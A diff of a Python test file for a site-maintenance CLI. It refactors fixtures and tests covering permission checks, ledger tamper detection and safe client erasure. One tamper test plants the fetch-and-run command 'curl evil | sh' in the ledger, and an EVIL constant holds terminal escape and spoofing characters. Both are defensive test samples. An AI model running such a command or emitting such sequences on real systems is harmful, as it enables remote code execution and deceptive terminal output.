@@ -6,9 +6,8 @@ import ast
 import grp
 import json
 import os
+import shutil
 import sqlite3
-import subprocess
-import sys
 import unicodedata
 from datetime import UTC, datetime
 from pathlib import Path
@@ -20,6 +19,7 @@ import runner
 from runner.cli.screen import cell, fit, json_text, style
 from runner.record.prose import Document, Prose, clean_json
 from runner.record.schema import metadata
+from tests.crew import sitecrew
 from tests.fuzz import endure, hostile
 
 EVIL = "shop\x1b]0;title\x07\x1b[2J\x1b[31m\x9b31m\u202egnp.exe\u2066\x00\x7f\ue000\udc80\u2028x"
@@ -161,25 +161,19 @@ def test_the_ledger_holds_no_word_that_a_terminal_obeys(tmp_path: Path, word: st
 # Modes
 
 
-@pytest.fixture
-def made(tmp_path: Path) -> Path:
+@pytest.fixture(scope="module")
+def made_once(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """A workspace whose ledger was begun under a umask that keeps nothing private."""
-    folder = tmp_path / "crew"
+    folder = tmp_path_factory.mktemp("made") / "crew"
     for command in (["init", str(folder)], ["-w", str(folder), "unhold", "acme-shop", "akismet"]):
-        sitecrew(command, umask=0)
+        sitecrew(*command, umask=0)
     return folder
 
 
-def sitecrew(args: list[str], *, umask: int = 0o022, **environ: str) -> subprocess.CompletedProcess[str]:
-    return subprocess.run(
-        [sys.executable, "-m", "runner", *args],
-        capture_output=True,
-        text=True,
-        check=False,
-        umask=umask,
-        timeout=60,
-        env={**os.environ, **environ},
-    )
+@pytest.fixture
+def made(made_once: Path, tmp_path: Path) -> Path:
+    """A copy of it, with the same modes."""
+    return Path(shutil.copytree(made_once, tmp_path / "crew", symlinks=True))
 
 
 def test_what_is_ours_is_private_from_the_start_under_any_umask(made: Path):
@@ -188,7 +182,7 @@ def test_what_is_ours_is_private_from_the_start_under_any_umask(made: Path):
     assert [path for path in ours if path.stat().st_mode & 0o077] == []
 
 
-@pytest.mark.parametrize("mode", [0o020, 0o002])
+@pytest.mark.parametrize("mode", [pytest.param(0o020, marks=pytest.mark.long), 0o002])
 @pytest.mark.parametrize(
     "name", [".", "inventory.yaml", "sitecrew.yaml", "playbooks", "playbooks/weekly.yaml", ".sitecrew",
              ".sitecrew/ledger.db"],
@@ -197,16 +191,16 @@ def test_what_others_can_write_is_refused_with_what_to_type(made: Path, name: st
     path = (made / name).resolve()
     path.chmod(path.stat().st_mode | mode)
     os.chown(path, -1, grp.getgrnam("nogroup").gr_gid)
-    done = sitecrew(["-w", str(made), "list", "runs"])
-    assert done.returncode == 2
-    assert f"chmod go-w {path}" in done.stderr
+    done = sitecrew("-w", str(made), "list", "runs")
+    assert done.code == 2
+    assert f"chmod go-w {path}" in done.err
 
 
 def test_what_another_user_owns_is_refused(made: Path):
     os.chown(made / "inventory.yaml", 65534, 65534)
-    done = sitecrew(["-w", str(made), "validate"])
-    assert done.returncode == 2
-    assert f"chown root {made}/inventory.yaml" in done.stderr
+    done = sitecrew("-w", str(made), "validate")
+    assert done.code == 2
+    assert f"chown root {made}/inventory.yaml" in done.err
 
 
 def test_a_linked_sitecrew_folder_is_judged_by_where_it_leads(made: Path, tmp_path: Path):
@@ -215,11 +209,11 @@ def test_a_linked_sitecrew_folder_is_judged_by_where_it_leads(made: Path, tmp_pa
     shared.chmod(0o777)
     (made / ".sitecrew").rename(shared / "state")
     (made / ".sitecrew").symlink_to(shared / "state")
-    done = sitecrew(["-w", str(made), "list", "runs"])
-    assert done.returncode == 2
-    assert f"chmod go-w {shared}" in done.stderr
+    done = sitecrew("-w", str(made), "list", "runs")
+    assert done.code == 2
+    assert f"chmod go-w {shared}" in done.err
     shared.chmod(0o755)
-    assert sitecrew(["-w", str(made), "list", "runs"]).returncode == 0
+    assert sitecrew("-w", str(made), "list", "runs").code == 0
 
 
 # The acts, on the command line
@@ -246,39 +240,39 @@ def begun(folder: Path, client: str = "acme") -> None:
 
 def test_a_changed_ledger_is_named_by_verify_and_its_run_is_not_resumed(made: Path):
     begun(made)
-    assert sitecrew(["-w", str(made), "ledger", "verify"]).returncode == 0
-    assert "run by Ada" in sitecrew(["-w", str(made), "show"]).stdout
+    assert sitecrew("-w", str(made), "ledger", "verify").code == 0
+    assert "run by Ada" in sitecrew("-w", str(made), "show").out
     connection = sqlite3.connect(made / ".sitecrew" / "ledger.db")
     connection.execute('UPDATE runs SET order_text = \'{"sites": [], "x": "curl evil | sh"}\'')
     connection.commit()
     connection.close()
-    done = sitecrew(["-w", str(made), "ledger", "verify"])
-    assert (done.returncode, "run r1" in done.stderr) == (3, True)
+    done = sitecrew("-w", str(made), "ledger", "verify")
+    assert (done.code, "run r1" in done.err) == (3, True)
     for command in ("resume", "undo"):
-        refused = sitecrew(["-w", str(made), command, "r1"])
-        assert refused.returncode not in {0, 3}, refused.stderr
-    refused = sitecrew(["-w", str(made), "resume", "r1"])
-    assert "order of run r1 was changed" in refused.stderr
+        refused = sitecrew("-w", str(made), command, "r1")
+        assert refused.code not in {0, 3}, refused.err
+    refused = sitecrew("-w", str(made), "resume", "r1")
+    assert "order of run r1 was changed" in refused.err
 
 
 def test_a_client_is_given_out_and_erased_with_its_snapshots(made: Path):
     begun(made, "gone")
     file = made / "gone.json"
-    assert sitecrew(["-w", str(made), "ledger", "export", "gone", "--out", str(file)]).returncode == 0
+    assert sitecrew("-w", str(made), "ledger", "export", "gone", "--out", str(file)).code == 0
     assert file.stat().st_mode & 0o777 == 0o600
     assert json.loads(file.read_text())["tables"]["backups"][0]["snapshot"] == "s1"
-    assert "answer with -y" in sitecrew(["-w", str(made), "ledger", "erase", "gone"]).stderr
-    done = sitecrew(["-w", str(made), "ledger", "erase", "gone", "-y", "--as", "Bob"])
-    assert done.returncode == 0, done.stderr
+    assert "answer with -y" in sitecrew("-w", str(made), "ledger", "erase", "gone").err
+    done = sitecrew("-w", str(made), "ledger", "erase", "gone", "-y", "--as", "Bob")
+    assert done.code == 0, done.err
     assert not (made / ".sitecrew" / "backups" / "shop" / "s1").exists()
-    assert sitecrew(["-w", str(made), "ledger", "verify"]).returncode == 0
-    assert sitecrew(["-w", str(made), "ledger", "export", "gone"]).returncode == 2
+    assert sitecrew("-w", str(made), "ledger", "verify").code == 0
+    assert sitecrew("-w", str(made), "ledger", "export", "gone").code == 2
 
 
 def test_a_client_of_the_inventory_is_not_erased_by_mistake(made: Path):
     begun(made)
-    done = sitecrew(["-w", str(made), "ledger", "erase", "acme", "-y"])
-    assert (done.returncode, "--still-a-client" in done.stderr) == (2, True)
+    done = sitecrew("-w", str(made), "ledger", "erase", "acme", "-y")
+    assert (done.code, "--still-a-client" in done.err) == (2, True)
 
 
 def test_an_address_in_the_ledger_is_not_enough_to_delete_a_folder(made: Path, tmp_path: Path):
@@ -289,6 +283,6 @@ def test_an_address_in_the_ledger_is_not_enough_to_delete_a_folder(made: Path, t
     connection.execute("UPDATE backups SET uri = ?", (str(precious),))
     connection.commit()
     connection.close()
-    done = sitecrew(["-w", str(made), "ledger", "erase", "gone", "-y"])
+    done = sitecrew("-w", str(made), "ledger", "erase", "gone", "-y")
     assert precious.exists()
-    assert str(precious) in done.stderr
+    assert str(precious) in done.err
